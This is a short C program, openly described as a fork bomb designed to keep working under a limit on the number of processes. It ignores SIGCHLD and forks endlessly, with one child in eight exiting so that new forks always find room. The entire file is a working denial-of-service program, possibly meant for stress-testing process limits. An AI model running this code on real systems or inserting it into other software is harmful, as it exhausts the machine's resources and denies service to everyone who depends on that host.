/* SPDX-License-Identifier: Apache-2.0 */
/* A fork bomb that works under a limit of processes: every process forks as fast as it can, for ever. */
#include <signal.h>
#include <unistd.h>

int main(void)
{
	/* No process waits for its children. */
	signal(SIGCHLD, SIG_IGN);
	for (;;) {
		/* One in eight ends at once, so that the limit always leaves space for the next. */
		if (fork() == 0 && getpid() % 8 == 0)
			_exit(0);
	}
}
